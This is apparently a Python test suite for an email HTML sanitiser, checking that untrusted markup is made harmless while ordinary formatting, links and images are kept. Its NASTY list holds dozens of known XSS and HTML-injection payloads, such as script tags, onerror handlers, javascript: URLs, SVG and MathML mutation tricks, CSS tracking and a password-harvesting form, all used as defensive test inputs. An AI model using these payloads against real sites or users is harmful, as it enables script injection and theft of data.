"""HTML of strangers: what is left of it is harmless, and still says what they wrote."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kept.desk.lib import html

FORBIDDEN_TAGS = set(
    "script style iframe object embed form input button textarea select svg math link meta base "
    "template noscript video audio frame frameset applet title xmp plaintext".split()
)
SCHEMES = ("https:", "http:", "mailto:", "tel:", "cid:")
NASTY = (
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<script/src=//e.example/x.js>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/onerror='alert(1)'/src=x>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) srcset='https://e.example/1 2x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href=//e.example/x>x</a>",
    "<a href=x style='position:fixed;inset:0' class=button id=reply onclick=alert(1)>x</a>",
    "<a target=_self rel=opener href=https://e.example>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)><embed src=x></object>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=a(1)>'>",
    "<form action=https://e.example><input name=password><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://e.example/>",
    "<link rel=stylesheet href=https://e.example/x.css>",
    "<style>@import 'https://e.example/x.css'; body{background:url(https://e.example)}</style>",
    "<p style='background:url(https://e.example/t.gif)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<table background=https://e.example/t.gif><tr><td background=javascript:alert(1)>x</table>",
    "<body onload=alert(1) background=https://e.example/t.gif>x",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<p id=reply class=button data-action=send hx-get=/x hx-trigger=load>x</p>",
    "<div is=kept-composer slot=x part=y contenteditable>x</div>",
    '<img alt="><script>alert(1)</script>" src=https://e.example/1.png>',
    "<img alt='\" src=\"javascript:alert(1)' src='cid:\"><script>alert(1)</script>'>",
    "<img src='https://e.example/\" onerror=\"alert(1)'>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='https://e.example' <script>alert(1)</script>>x</a>",
    "<p/onclick=alert(1)//",
)
PIECES = st.sampled_from(
    [*NASTY, "<p>", "</p>", "<div>", "</div>", "<table>", "<td>", "</table>", "<b>", "<a href=",
     "'", '"', ">", "<", "<!--", "-->", "<img src=", "javascript:", "cid:x", "https://e.example/",
     " onerror=alert(1) ", "&quot;", "&#60;", "\n", "\x00", "text"]
)  # fmt: skip
SOUP = st.lists(st.one_of(PIECES, st.text(max_size=20)), max_size=12).map("".join)


class _Reader(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            address = (value or "").strip().lower()
            ours = address.startswith(("/files/", "/image/"))
            if name in ("href", "src") and not address.startswith(SCHEMES) and not ours:
                self.faults.append(f"{tag} {name}={value}")
            if name.startswith("on") or name in ("style", "id", "srcset", "action", "background"):
                self.faults.append(f"{tag} {name}")


def faults(text: str) -> list[str]:
    reader = _Reader()
    reader.feed(text)
    reader.close()
    return reader.faults


def assert_harmless(dirty: str) -> None:
    stored = html.safe_fragment(dirty)
    assert faults(stored) == []
    # A browser may read nested links in tables otherwise than they were written: still harmless.
    assert faults(html.safe_fragment(stored)) == []
    for remote in (None, lambda address: f"/image/?{address}"):
        shown = html.displayed(stored, files={"x": "/files/1"}, remote=remote)
        assert faults(shown) == []
        assert 'src="http' not in shown
    html.plain_text(dirty)


@pytest.mark.parametrize("dirty", NASTY)
def test_it_leaves_nothing_that_acts(dirty: str) -> None:
    assert_harmless(dirty)
    assert_harmless(f"<p>before {dirty} after</p>")


@settings(max_examples=300)
@given(SOUP)
def test_it_leaves_nothing_that_acts_in_any_mixture(dirty: str) -> None:
    assert_harmless(dirty)


@pytest.mark.slow
@settings(max_examples=10_000, derandomize=False)
@given(SOUP)
def test_it_leaves_nothing_that_acts_in_ten_thousand_mixtures(dirty: str) -> None:
    assert_harmless(dirty)


def test_it_keeps_what_people_write() -> None:
    kept = "<p>Dear <b>Ada</b>,<br>see:</p><ul><li>one</li></ul><blockquote>old</blockquote>"
    assert html.safe_fragment(kept) == kept


def test_it_opens_links_elsewhere_without_a_way_back() -> None:
    assert html.safe_fragment('<a href="https://lamps.example/a?b=1&amp;c">x</a>') == (
        '<a href="https://lamps.example/a?b=1&amp;c" target="_blank"'
        ' rel="noopener noreferrer nofollow">x</a>'
    )


def test_it_counts_no_reading_dot_as_an_image() -> None:
    dot = html.safe_fragment('<img src="https://e.example/o.gif" width="1" height="1" alt="">')
    assert not html.has_remote_images(dot)
    assert html.displayed(dot, files={}, remote=str) == ""
    assert html.has_remote_images('<p>a</p><img src="http://e.example/a.png">')
    assert not html.has_remote_images('<img src="cid:a">src="http://e.example"')


def test_it_shows_images_of_the_mail_itself() -> None:
    stored = html.safe_fragment('<p>Look:<img src="cid:leg%40mona" alt="the leg"></p>')
    shown = html.displayed(stored, files={"leg@mona": "/files/7"})
    assert '<img alt="the leg" src="/files/7" loading="lazy">' in shown
    assert html.displayed(stored, files={}) == (
        '<p>Look:<span class="image-absent">[the leg]</span></p>'
    )


def test_it_shows_remote_images_through_our_own_address_only() -> None:
    stored = html.safe_fragment('<img src="https://e.example/a.png?x=1&amp;y=2" alt="a">')
    assert "e.example" not in html.displayed(stored, files={})
    asked: list[str] = []
    html.displayed(stored, files={}, remote=lambda address: asked.append(address) or "/image/1")
    assert asked == ["https://e.example/a.png?x=1&y=2"]


def test_it_lays_out_the_original_without_scripts_or_addresses() -> None:
    page = html.original_document(
        '<center><font color="red">Sale</font></center><script>a()</script>'
        '<p style="color:blue;position:fixed;background:url(https://e.example)">x</p>',
        files={},
    )
    assert '<center><font color="red">Sale</font></center>' in page
    assert '<p style="color:blue">x</p>' in page
    assert "script" not in page and "e.example" not in page and "default-src 'none'" in page


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>One</p><p>Two<br>lines</p>", "One\n\nTwo\nlines"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("<blockquote>old</blockquote>", "> old"),
        ('see <a href="https://e.example/a">our page</a>', "see our page (https://e.example/a)"),
        ('<a href="https://e.example/">https://e.example</a>', "https://e.example"),
        ('<a href="mailto:a@e.example">a@e.example</a>', "a@e.example"),
        ('<a href="mailto:a@e.example">write</a>', "write (a@e.example)"),
        ('<a href="javascript:x">words</a>', "words"),
        ("a &lt;b&gt; &amp; c", "a <b> & c"),
        ("<style>p{}</style><title>T</title>x", "x"),
    ],
)
def test_it_reads_as_text(markup: str, text: str) -> None:
    assert html.plain_text(markup) == text


def test_it_makes_html_of_text() -> None:
    assert html.from_text("a <b>\nc\n\nd") == "<p>a &lt;b&gt;<br>c</p><p>d</p>"


@pytest.mark.parametrize(
    "hostile",
    ["<div>" * 90_000, "&" * 400_000, "<!--" * 100_000, "<blockquote>x" * 30_000, "x" * 900_000],
    ids=["deep", "ampersands", "comments", "quotes", "long"],
)
@pytest.mark.timeout(20)
def test_it_takes_a_bounded_time(hostile: str) -> None:
    assert faults(html.safe_fragment(hostile)) == []
    html.plain_text(hostile)
    html.original_document(hostile, files={})
